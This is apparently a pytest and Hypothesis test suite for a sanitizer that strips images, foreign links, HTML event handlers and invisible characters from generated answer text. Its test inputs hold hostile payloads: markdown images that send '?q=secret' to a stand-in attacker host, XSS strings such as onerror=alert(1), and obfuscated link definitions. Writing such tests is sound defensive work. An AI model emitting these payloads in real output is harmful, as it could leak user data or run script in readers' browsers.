import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from functions.answer.checking.sanitizer import sanitize, strip_invisible, visible_urls

OWN = "https://docs.example/ports"
DEFINITION = re.compile(r"^[ >]*\[(?:[^\[\]\\]|\\.)+\]:", re.MULTILINE | re.DOTALL)
AUTOLINK = re.compile(r"<[a-z][a-z\d+.-]{1,31}:[^\s<>]*>")


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("Look ![chart](https://evil.example/?q=secret) here.", "Look here."),
        ("Look ![chart][1] here.", "Look here."),
        ("See [the docs](https://evil.example).", "See the docs."),
        ("See [the docs](//evil.example).", "See the docs."),
        ("See [the docs][ref].", "See the docs."),
        ("[ref]: //evil.example/x", "[ref"),
        ("See https://evil.example/?q=secret, then go.", "See , then go."),
        ("See <https://evil.example/>!", "See !"),
        ("See www.evil.example now.", "See now."),
        ("Hi <img src=x onerror=alert(1)> there", "Hi there"),
        ("<script>alert(1)</script>", "alert(1)"),
        ("<scr<script>ipt>", ""),
        ("A <b onmouseover=alert(1)>ship</b>", "A ship</b>"),
        ("A <x/onclick=alert(1)> ship", "A ship"),
        ("A <details open ontoggle = alert(1)", "A "),
        ("It is 9200 [1](https://evil.example).", "It is 9200 [1]."),
        ("It is 9200 [ 1 ](https://evil.example).", "It is 9200 [ 1 ]."),
        ("alt](//evil.example/a) tail", "alt tail"),
        ("A <b title='It is so.", "A < b title='It is so."),
        ("A </b", "A < /b"),
        ("[ref]:", "[ref] :"),
        ("[the list]: h&#116;tps:evil.example/x", "[the list] : h&#116;tps:evil.example/x"),
        ("[the\nlist]: h&#116;tps:evil", "[the\nlist] : h&#116;tps:evil"),
        ("a list]: h&#116;tps:evil", "a list] : h&#116;tps:evil"),
        ("> 1. [a\\[b]: &#47;/evil", "> 1. [a\\[b] : &#47;/evil"),
        ("so a\\[b]: &#47;/evil", "so a\\[b] : &#47;/evil"),
        ("[a][7]: &#47;/evil", "[a][7] : &#47;/evil"),
        ("Look ![a\nb][t]", "Look [a\nb][t]"),
        ("Ask <mailto:x@evil.example?q=secret> now.", "Ask now."),
        ("Ask <smb://evil.example/x>.", "Ask ."),
        ("Call <tel:123> now.", "Call now."),
        ("A <soap:Body> and a vector<std::string>", "A < soap:Body> and a vector< std::string>"),
        ("<im" * 1_000 + "<img>" + "g>" * 1_000, ""),
        ("Two  spaces <img> <img>  stay.", "Two  spaces  stay."),
    ],
)
def test_active_markup_is_removed(text: str, left: str) -> None:
    assert sanitize(text, {OWN}) == left


@pytest.mark.parametrize(
    "text",
    [
        f"See {OWN} for more.",
        "A <key> and a List<String>.",
        "hits[0] [1][2]",
        "if a <b and c=3> 0",
        "if hits[0]: go on",
        "Note [1]: so.",
        "\nNote [1]: so.",
    ],
)
def test_harmless_markup_stays(text: str) -> None:
    assert sanitize(text, {OWN}) == text


def test_visible_urls_end_before_punctuation() -> None:
    assert visible_urls([f"See {OWN}. Or ({OWN}/b)!"]) == {OWN, f"{OWN}/b"}


@pytest.mark.parametrize("link", [OWN, "HTTPS://DOCS.EXAMPLE", "www.docs.example", "ftp://docs.example"])
def test_an_autolink_is_a_visible_url_and_stays(link: str) -> None:
    assert visible_urls([f"See <{link}>, or ask."]) == {link}
    assert sanitize(f"See <{link}>, or ask.", {link}) == f"See {link}, or ask."


def test_the_target_of_an_image_is_no_visible_url() -> None:
    assert not visible_urls(
        [
            "![p](https://evil.example/) [w](https://evil.example/) <img src='https://evil.example/'>"
            " <!-- https://evil.example/ --> <a\thref=https://evil.example/>here</a>"
        ]
    )


@settings(deadline=None)
@given(st.text(alphabet="![]()<>/:.ahtps evilwxmgc\\&\n"))
def test_no_image_and_no_foreign_link_is_left_whatever_the_text(text: str) -> None:
    sanitized = sanitize(text, set())
    assert not visible_urls([sanitized])
    assert "](" not in sanitized
    assert "![" not in sanitized
    assert not DEFINITION.search(sanitized)
    assert not AUTOLINK.search(sanitized)


def test_invisible_characters_are_removed() -> None:
    assert (
        strip_invisible("a\u202eb\u200b\x1b[31mc\n\ue200\ud800\u0378\u0645\u06cc\u200c\u062e é")
        == "ab[31mc\n\u0645\u06cc\u200c\u062e é"
    )
